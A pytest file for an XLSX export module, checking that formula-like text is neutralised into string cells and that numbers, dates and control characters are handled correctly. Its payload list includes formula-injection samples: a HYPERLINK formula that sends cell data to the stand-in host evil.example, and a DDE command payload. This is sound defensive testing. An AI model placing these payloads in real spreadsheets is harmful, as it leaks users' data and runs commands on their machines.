"""apps/core/xlsx.py: read back with openpyxl, text is never a formula, numbers and dates keep their types."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.core.csv import encode_cell
from apps.core.xlsx import DATE_FORMAT, DECIMAL_FORMAT, INT_FORMAT, xlsx_bytes

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "=cmd|' /C calc'!A0",
    "'=1+2",
]


def _sheet(rows, header=("value",)):
    return load_workbook(io.BytesIO(xlsx_bytes(header=header, rows=rows))).worksheets[0]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_is_a_string_cell_and_agrees_with_the_csv(text):
    cell = _sheet([[text]])["A2"]
    assert cell.data_type == "s"  # never "f"
    # The CSV cell's text, unquoted (XML reads a carriage return back as a line feed).
    assert cell.value == encode_cell(text)[1:-1].replace('""', '"').replace("\r", "\n")
    assert cell.value.startswith("'")


def test_the_file_holds_no_formula_element():
    import zipfile

    data = xlsx_bytes(header=["a"], rows=[[text] for text in PAYLOADS])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_numbers_dates_and_empty_cells_keep_their_types():
    sheet = _sheet(
        [
            [
                7,
                Decimal("-12.50"),
                datetime.date(2026, 10, 1),
                datetime.datetime(2026, 10, 1, 12, 30, tzinfo=datetime.UTC),
                None,
                "plain",
            ]
        ],
        header=["i", "d", "day", "when", "none", "text"],
    )
    i, d, day, when, none, text = sheet[2]
    assert (i.value, i.data_type, i.number_format) == (7, "n", INT_FORMAT)
    assert (d.value, d.data_type, d.number_format) == (-12.5, "n", DECIMAL_FORMAT)
    assert (day.value, day.number_format) == (datetime.datetime(2026, 10, 1), DATE_FORMAT)
    assert day.is_date and when.is_date
    assert when.value == datetime.datetime(2026, 10, 1, 12, 30)  # UTC, without a zone
    assert none.value is None
    assert (text.value, text.data_type) == ("plain", "s")
    assert [c.value for c in sheet[1]] == ["i", "d", "day", "when", "none", "text"]


@pytest.mark.parametrize("value", [1.5, True, False])
def test_floats_and_bools_are_refused_like_the_csv_writer(value):
    with pytest.raises(TypeError):
        xlsx_bytes(header=["x"], rows=[[value]])
    with pytest.raises(TypeError):
        encode_cell(value)


def test_control_characters_do_not_break_the_file():
    assert _sheet([["a\x00b\x1fc"]])["A2"].value == "a\ufffdb\ufffdc"
